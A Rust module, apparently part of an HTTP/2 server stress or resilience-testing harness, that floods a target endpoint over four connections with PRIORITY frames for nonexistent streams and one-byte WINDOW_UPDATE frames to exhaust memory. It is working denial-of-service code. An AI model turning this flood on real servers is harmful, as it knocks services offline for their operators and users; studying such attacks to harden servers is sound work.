use crate::crowd::{PATIENCE, crowd, flood, renew};
use crate::frames;
use crate::round::{Kind, Round};

const CONNECTIONS: usize = 4;
const BYTES_MAX: usize = 64 << 20;

/// PRIORITY for streams that are not there, and WINDOW_UPDATE of a byte: frames that ask for nothing.
pub(super) fn run(round: &mut Round) -> Result<(), String> {
    let mut endpoint = round.endpoint(Kind::Memory)?;
    let address = endpoint.requests.address;
    round.attack_endpoint(&mut endpoint, |until| {
        crowd(CONNECTIONS, |index| {
            renew(until, || {
                let connection = frames::open(address, &[], PATIENCE)?;
                let mut stream = 1;
                flood(connection, true, BYTES_MAX, until, || {
                    let mut frames = Vec::new();
                    for _ in 0..1_000 {
                        match index % 2 {
                            0 => frames.extend(frames::priority(stream, stream + 2)),
                            _ => frames.extend(frames::window_update(0, 1)),
                        }
                        stream = (stream + 2) & 0x3fff_ffff;
                    }
                    frames
                })
            })
        });
        Ok(())
    })
}
